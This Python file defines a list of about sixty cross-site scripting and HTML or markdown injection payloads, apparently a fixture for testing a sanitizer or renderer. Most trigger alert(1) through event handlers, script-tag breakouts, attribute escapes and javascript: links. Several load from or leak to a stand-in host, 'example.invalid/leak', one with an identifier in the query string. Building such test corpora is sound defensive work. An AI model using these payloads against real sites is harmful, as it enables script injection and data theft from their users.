"""Sixty ways to run a script in a page, each of which would call alert(1) or fetch from outside."""

_CALL = "alert(1)"
_OUT = "http://example.invalid/leak"
_EVENTS = [
    f"<img src=x onerror={_CALL}>",
    f"<img src=x onerror='{_CALL}'//",
    f"<IMG SRC=x OnErRoR={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f'<img src="x`" onerror={_CALL}>',
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}//",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={_CALL} attributename=x>",
    f"<body onload={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<video src=x onerror={_CALL}>",
    f"<video><source onerror={_CALL}>",
    f"<audio src=x onerror={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<marquee onstart={_CALL}>",
    f"<object data=x onerror={_CALL}>",
    f"<style onload={_CALL}></style>",
    f"<link rel=stylesheet href=x onerror={_CALL}>",
    f"<iframe onload={_CALL}>",
    f"<p onmouseover={_CALL}>peg</p>",
    f"<xss style=animation-name:x onanimationstart={_CALL}>",
]
_SCRIPTS = [
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<script src={_OUT}.js></script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<math><mi><script>{_CALL}</script></mi></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<template><script>{_CALL}</script></template>",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
]
_ATTRIBUTES = [
    f'" onmouseover="{_CALL}" x="',
    f"' onmouseover='{_CALL}' x='",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f'" autofocus onfocus="{_CALL}',
    f"&lt;img src=x onerror={_CALL}&gt;",
    f"&#60;img src=x onerror={_CALL}&#62;",
    f"\\u003cimg src=x onerror={_CALL}\\u003e",
]
_MARKDOWN = [
    f"[klik](javascript:{_CALL})",
    f"[klik](JaVaScRiPt:{_CALL})",
    f"[klik](data:text/html,<script>{_CALL}</script>)",
    f"<a href=javascript:{_CALL}>klik</a>",
    f"![x]({_OUT})",
    f"![x]({_OUT}?cpr=0000000000)",
    f"<img src={_OUT}>",
    f"<div style='background:url({_OUT})'>x</div>",
    f"<style>@import '{_OUT}';</style>",
    f"<base href={_OUT}>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f":material/x: $\\href{{javascript:{_CALL}}}{{x}}$",
]

PAYLOADS = [*_EVENTS, *_SCRIPTS, *_ATTRIBUTES, *_MARKDOWN]
